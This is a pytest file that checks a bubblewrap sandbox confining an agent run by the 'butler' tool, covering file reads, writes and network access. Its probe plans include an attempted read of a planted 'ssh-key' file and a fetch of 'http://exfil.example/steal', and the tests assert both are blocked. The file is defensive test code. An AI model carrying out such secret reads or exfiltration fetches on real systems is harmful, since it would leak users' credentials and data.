"""ask and chat run the person's agent in the runtime jail, with real bubblewrap.

The fake agent probes from inside: the sources it was given are readable, a
file beside them and the person's other files are not, it writes only its
temp folder, and its network reaches the model API named by a ``*_BASE_URL``
variable and nothing else.
"""

from __future__ import annotations

import json
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from butler.errors import ConfigError
from tests.helpers import require_jail
from tests.subagent.conftest import FAKE_AGENT, RunnerFactory, SourceTree

pytestmark = pytest.mark.slow


class Answer(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = f"model at {self.server.server_address[1]}".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def servers() -> Iterator[tuple[int, int]]:
    """Two HTTP servers on the host's loopback: the model API, and one nobody allowed."""
    started = [ThreadingHTTPServer(("127.0.0.1", 0), Answer) for _ in range(2)]
    for server in started:
        threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield started[0].server_address[1], started[1].server_address[1]
    finally:
        for server in started:
            server.shutdown()
            server.server_close()


def jailed_config(extra: str = "") -> str:
    """``[sandbox]`` in bwrap mode; the fake agent's own file readable.

    Fails the test, naming scripts/setup-dev, when the jail cannot start here.
    """
    require_jail()
    return f'\n[sandbox]\nmode = "bwrap"\nread_only = [{json.dumps(str(FAKE_AGENT))}]\n{extra}'


async def test_ask_reaches_its_sources_and_model_only(
    make_runner: RunnerFactory,
    source_tree: SourceTree,
    servers: tuple[int, int],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    model, other = servers
    monkeypatch.setenv("BUTLER_SANDBOX", "bwrap")
    monkeypatch.setenv("FAKE_BASE_URL", f"http://127.0.0.1:{model}")
    secret = tmp_path / "ssh-key"
    secret.write_text("PRIVATE KEY\n")
    outside = tmp_path / "planted"
    plan = source_tree.folder / "plan.json"
    plan.write_text(
        json.dumps(
            {
                "read": [str(source_tree.folder / "guide.md"), str(secret)],
                "write": [str(outside), str(source_tree.folder / "guide.md"), "scratch.txt"],
                "fetch": [
                    f"http://127.0.0.1:{model}/v1",
                    f"http://127.0.0.1:{other}/",
                    "http://exfil.example/steal",
                ],
            }
        )
    )
    runner = make_runner(
        ask=[sys.executable, str(FAKE_AGENT), "probe", str(plan)],
        extra=jailed_config(),
    )
    report = json.loads(await runner.ask(["docs"], "q"))
    assert report["read"][str(source_tree.folder / "guide.md")] == "# Guide\n"
    assert report["read"][str(secret)] == "FileNotFoundError"
    writes = report["write"]
    # A folder the jail does not hold: what is written there lands in the jail's own tmpfs.
    assert not outside.exists()
    assert writes[str(source_tree.folder / "guide.md")] == "OSError"  # read-only
    assert (source_tree.folder / "guide.md").read_text() == "# Guide\n"
    assert writes["scratch.txt"] == "written"  # its own temp folder
    assert report["home"].endswith("/.home")
    fetched = report["fetch"]
    assert fetched[f"http://127.0.0.1:{model}/v1"] == f"200 model at {model}"
    assert fetched[f"http://127.0.0.1:{other}/"] in ("URLError", "RemoteDisconnected")
    assert fetched["http://exfil.example/steal"].startswith("403 butler sandbox: exfil.example")


async def test_an_allow_hosts_entry_opens_that_host(
    make_runner: RunnerFactory,
    source_tree: SourceTree,
    servers: tuple[int, int],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    model, other = servers
    monkeypatch.setenv("FAKE_BASE_URL", f"http://127.0.0.1:{model}")
    plan = source_tree.folder / "plan.json"
    url = f"http://127.0.0.1:{other}/mcp"
    plan.write_text(json.dumps({"read": [], "write": [], "fetch": [url, "http://exfil.example/"]}))
    monkeypatch.setenv("BUTLER_SANDBOX", "bwrap")
    runner = make_runner(
        ask=[sys.executable, str(FAKE_AGENT), "probe", str(plan)],
        extra=jailed_config(f'allow_hosts = ["127.0.0.1:{other}"]\n'),
    )
    report = json.loads(await runner.ask(["docs"], "q"))
    assert report["home"].endswith("/.home")  # it ran in the jail
    assert report["fetch"][url] == f"200 model at {other}"
    # The entry opens that host only: the rest is still refused by the proxy.
    assert report["fetch"]["http://exfil.example/"].startswith("403 butler sandbox")


async def test_chat_runs_in_the_jail_too(
    make_runner: RunnerFactory, source_tree: SourceTree, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("BUTLER_SANDBOX", "bwrap")
    outside = source_tree.config_dir / "planted"
    plan = source_tree.folder / "plan.json"
    plan.write_text(json.dumps({"read": [], "write": [str(outside)], "fetch": []}))
    runner = make_runner(
        chat=[sys.executable, str(FAKE_AGENT), "probe", str(plan)], extra=jailed_config()
    )
    assert await runner.chat(["docs"]) == 0
    assert not outside.exists()


def test_a_bad_sandbox_mode_is_one_line(make_runner: RunnerFactory) -> None:
    with pytest.raises(ConfigError, match=r"sandbox\.mode: expected 'auto', 'bwrap' or 'none'"):
        make_runner(extra='\n[sandbox]\nmode = "off"\n')


async def test_ask_runs_an_agent_cli_installed_under_nvm(
    make_runner: RunnerFactory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("BUTLER_SANDBOX", "bwrap")
    prefix = tmp_path / "home" / ".nvm" / "versions" / "node" / "v22.1.0"
    cli = prefix / "lib" / "node_modules" / "agent" / "cli.js"
    cli.parent.mkdir(parents=True)
    cli.write_text("#!/bin/sh\necho answered from nvm\n")
    cli.chmod(0o755)
    (prefix / "bin").mkdir()
    (prefix / "bin" / "agent").symlink_to("../lib/node_modules/agent/cli.js")
    monkeypatch.setenv("PATH", f"{prefix / 'bin'}:/usr/bin:/bin")
    runner = make_runner(ask=["agent", "{prompt_file}"], extra=jailed_config())
    assert await runner.ask(["docs"], "q") == "answered from nvm\n"
